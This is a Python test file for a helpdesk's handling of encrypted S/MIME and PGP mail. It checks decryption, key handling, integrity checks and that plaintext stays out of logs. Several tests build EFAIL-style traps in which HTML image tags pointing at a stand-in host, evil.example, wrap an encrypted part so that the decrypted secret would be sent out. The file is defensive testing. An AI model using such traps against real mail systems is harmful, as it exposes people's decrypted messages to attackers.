"""M34: what comes encrypted is opened with the mailbox's own keys, and never tells anybody outside what it says."""

from __future__ import annotations

import logging
from base64 import encodebytes

import pytest
from django.test import Client
from pysequoia import encrypt

from kundig.channels.email import actions as mailboxes
from kundig.channels.email.models import Mailbox
from kundig.channels.email.protected import actions
from kundig.channels.email.protected.receiving import without_armor
from kundig.channels.email.protected.tests.arriving import arrived, drawn, is_green, verdicts
from kundig.channels.email.protected.tests.people import (
    certified,
    entity,
    mail,
    mixed,
    pgp,
    pgp_encrypted,
    pkcs12_of,
    public,
    smime_encrypted,
    smime_signed,
)
from kundig.conversations.remote_pictures import proxied
from kundig.core import caps
from kundig.core.actor import SYSTEM
from kundig.core.errors import Refused
from kundig.core.models import AuditEntry, Event
from kundig.staff.models import Agent

HELP, KOFI, IDA = "hilfe@firma.example", "kofi@kunde.example", "ida@vip.example"
PICTURE = '<p>Geheim: 4711</p><img src="https://evil.example/x.png">'


def test_an_encrypted_mail_says_what_it_says(smime_key: Mailbox) -> None:
    body = smime_encrypted(entity("Meine Nummer ist 4711."), [certified(HELP)], certified(KOFI))
    message = arrived(smime_key, mail(body))
    assert message.text.strip() == "Meine Nummer ist 4711."
    assert message.protection["encrypted"] == "whole"
    assert verdicts(message) == ["good"]
    page = drawn(message)
    assert "Received encrypted" in page
    assert "Signed by kofi@kunde.example" in page
    # The original stays as it came.
    assert message.raw is not None
    assert b"4711" not in bytes(message.raw.content)


def test_files_within_an_encrypted_mail_are_the_messages_files(smime_key: Mailbox) -> None:
    file = (
        b'Content-Type: application/pdf; name="Plan.pdf"\r\n'
        b"Content-Disposition: attachment; filename=Plan.pdf\r\n\r\n%PDF-1.4"
    )
    body = smime_encrypted(mixed(entity("Anbei."), file), [certified(HELP)])
    message = arrived(smime_key, mail(body))
    assert [one.name for one in message.attachments.all()] == ["Plan.pdf"]


def test_a_mail_for_somebody_else_stays_closed(smime_key: Mailbox) -> None:
    message = arrived(smime_key, mail(smime_encrypted(entity(), [certified(IDA)])))
    assert message.protection["trouble"] == "no_key"
    assert "this mailbox has no key that opens it" in drawn(message)
    assert [one.name for one in message.attachments.all()] == ["smime.p7m"]


def test_m34_the_key_of_another_mailbox_opens_nothing(smime_key: Mailbox) -> None:
    other = mailboxes.make(by=SYSTEM, address="chef@firma.example")
    body = smime_encrypted(entity("Nur für die Hilfe"), [certified(HELP)])
    message = arrived(other, mail(body))
    assert message.protection["trouble"] == "no_key"
    assert "Nur" not in message.text


def test_a_retired_key_still_opens_what_was_encrypted_for_it(smime_key: Mailbox) -> None:
    actions.retire_key(smime_key.own_keys.get(), by=SYSTEM)
    message = arrived(smime_key, mail(smime_encrypted(entity("Alt"), [certified(HELP)])))
    assert message.text.strip() == "Alt"


def test_m34_whoever_signs_the_outside_need_not_know_the_inside(smime_key: Mailbox) -> None:
    body = smime_signed(smime_encrypted(entity(), [certified(HELP)]), certified(KOFI))
    message = arrived(smime_key, mail(body))
    assert verdicts(message) == ["envelope"]
    assert not is_green(message)


def test_m34_decrypted_and_other_parts_never_share_a_document(smime_key: Mailbox) -> None:
    stolen = smime_encrypted(entity("Geheim: 4711"), [certified(HELP)])
    trap = mixed(
        entity('<img src="https://evil.example/', "text/html"), stolen, entity('">', "text/html")
    )
    message = arrived(smime_key, mail(trap, sender="mallory@evil.example"))
    assert message.html == ""
    assert "Geheim: 4711" in message.text
    assert message.protection["encrypted"] == "part"
    assert "Only this part was encrypted:" in drawn(message)


def test_m34_nor_where_the_trap_itself_is_encrypted(smime_key: Mailbox) -> None:
    stolen = smime_encrypted(entity("Geheim: 4711"), [certified(HELP)])
    trap = mixed(entity('<img src="https://evil.example/', "text/html"), stolen)
    body = smime_encrypted(trap, [certified(HELP)])
    message = arrived(smime_key, mail(body, sender="mallory@evil.example"))
    assert message.html == ""
    assert "4711" in message.text


def test_m34_nothing_is_fetched_for_an_encrypted_mail(
    smime_key: Mailbox, clara: Agent, client: Client
) -> None:
    body = smime_encrypted(entity(PICTURE, "text/html"), [certified(HELP)])
    message = arrived(smime_key, mail(body))
    assert "4711" in message.html
    assert "remote_pictures" not in message.warnings
    client.force_login(clara)
    page = client.get(f"/messages/{message.pk}/html/?pictures")
    assert page.status_code == 200
    assert b"evil.example" not in page.content
    assert b"/pictures/" not in page.content
    assert client.get(proxied(message, "https://evil.example/x.png")).status_code == 404


def test_m34_decrypted_text_stands_in_no_log_and_no_event(
    smime_key: Mailbox, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    body = smime_encrypted(entity("Zauberwort Xyzzy"), [certified(HELP)])
    arrived(smime_key, mail(body))
    assert "Xyzzy" not in caplog.text
    told = str([*Event.objects.values_list("data"), *AuditEntry.objects.values_list("data")])
    assert "Xyzzy" not in told
    assert "PRIVATE" not in told
    assert "geheim" not in told


def test_pgp_mail_signed_and_encrypted_in_one(pgp_key: Mailbox) -> None:
    actions.add_known(by=SYSTEM, content=bytes(public(pgp(KOFI))))
    body = pgp_encrypted(entity("Meine Nummer ist 4711."), [pgp(HELP)], pgp(KOFI))
    message = arrived(pgp_key, mail(body))
    assert message.text.strip() == "Meine Nummer ist 4711."
    assert verdicts(message) == ["good"]
    assert message.protection["encrypted"] == "whole"
    assert is_green(message)
    assert not message.attachments.exists()


def test_m34_pgp_mail_signed_with_the_key_of_another_address(pgp_key: Mailbox) -> None:
    actions.add_known(by=SYSTEM, content=bytes(public(pgp(IDA))))
    body = pgp_encrypted(entity(), [pgp(HELP)], pgp(IDA))
    message = arrived(pgp_key, mail(body, sender=KOFI))
    assert verdicts(message) == ["other_signer"]
    assert not is_green(message)


def test_pgp_mail_for_somebody_else_stays_closed(pgp_key: Mailbox) -> None:
    message = arrived(pgp_key, mail(pgp_encrypted(entity(), [pgp(IDA)])))
    assert message.protection["trouble"] == "no_key"


def test_inline_pgp_message(pgp_key: Mailbox) -> None:
    armored = encrypt("Straße 4711".encode(), recipients=[public(pgp(HELP))]).decode()
    message = arrived(pgp_key, mail(entity(armored)))
    assert message.text.strip() == "Straße 4711"
    assert message.protection["encrypted"] == "whole"


def test_m34_words_around_an_inline_message_are_kept_apart(pgp_key: Mailbox) -> None:
    armored = encrypt(b"Geheim 4711", recipients=[public(pgp(HELP))]).decode()
    html = entity(f'<img src="https://evil.example/{armored}">', "text/html")
    body = mixed(entity(f"Hallo\n\n{armored}\n\nGruß"), html, kind="alternative")
    message = arrived(pgp_key, mail(body))
    assert message.html == ""
    assert message.protection["encrypted"] == "part"
    assert "Geheim 4711" in message.text
    assert "Hallo" in message.text
    assert "BEGIN PGP" not in message.text


def test_m34_pgp_without_integrity_protection_stays_closed(pgp_key: Mailbox) -> None:
    # A packet of symmetrically encrypted data without MDC (RFC 9580, 5.7), as old programs wrote it.
    sealed = encrypt(b"x", recipients=[public(pgp(HELP))], armor=False)
    key_packet = sealed[: 2 + sealed[1]]
    content = key_packet + bytes([0xC0 | 9, 40]) + bytes(range(40))
    armored = (
        b"-----BEGIN PGP MESSAGE-----\n\n" + encodebytes(content) + b"-----END PGP MESSAGE-----\n"
    )
    message = arrived(pgp_key, mail(entity(armored.decode())))
    assert message.protection["trouble"] == "no_integrity"
    assert "without protection against changes" in drawn(message)


def test_the_subject_that_was_encrypted_along_is_the_subject(pgp_key: Mailbox) -> None:
    inner = entity("Hallo").replace(
        b"; charset=utf-8", b'; charset=utf-8; protected-headers="v1"', 1
    )
    body = pgp_encrypted(b"Subject: Kontonummer 4711\r\n" + inner, [pgp(HELP)])
    raw = mail(body).replace(b"Subject: Zahlen", b"Subject: ...")
    assert arrived(pgp_key, raw).subject == "Kontonummer 4711"


def test_what_is_damaged_arrives_as_it_came(smime_key: Mailbox) -> None:
    body = (
        b'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHA6CAMIACAQAxggFM\r\n"
    )
    message = arrived(smime_key, mail(body))
    assert message.protection["trouble"] == "damaged"
    assert [one.name for one in message.attachments.all()] == ["smime.p7m"]


def test_a_wrong_password_adds_no_key(mailbox: Mailbox) -> None:
    content = pkcs12_of(certified(HELP), "geheim")
    with pytest.raises(Refused, match="password does not open"):
        actions.add_key(mailbox, by=SYSTEM, scheme="smime", content=content, password="falsch")
    other = pkcs12_of(certified(KOFI), "geheim")
    with pytest.raises(Refused, match="not to this mailbox"):
        actions.add_key(mailbox, by=SYSTEM, scheme="smime", content=other, password="geheim")
    assert not mailbox.own_keys.exists()


def test_the_private_part_is_sealed(smime_key: Mailbox) -> None:
    key = smime_key.own_keys.get()
    assert "PRIVATE" not in key.public
    assert b"PRIVATE" not in bytes(key.secret.sealed)


def test_armor_is_cut_out_of_a_text() -> None:
    armor = "-----BEGIN PGP MESSAGE-----\n\nabc\n-----END PGP MESSAGE-----"
    assert without_armor(f"vorher\n{armor}\nmitten\n{armor}\nnachher") == (
        "vorher\n\nmitten\n\nnachher"
    )
    # Would take minutes if each beginning were followed to the end of the text.
    endless = "-----BEGIN PGP MESSAGE-----x\n" * (caps.MAIL_TEXT_CHARS // 29)
    assert without_armor(endless) == endless
